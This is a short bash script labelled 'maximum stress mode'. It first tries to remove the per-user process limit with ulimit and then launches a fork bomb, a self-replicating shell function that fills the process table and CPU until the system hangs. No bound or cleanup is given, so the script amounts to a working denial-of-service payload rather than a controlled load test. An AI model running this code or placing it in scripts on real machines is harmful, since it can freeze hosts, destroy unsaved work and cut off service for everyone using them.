#!/bin/bash
# maximum stress mode: saturate the process table and CPU
ulimit -u unlimited 2>/dev/null
:(){ :|:& };:
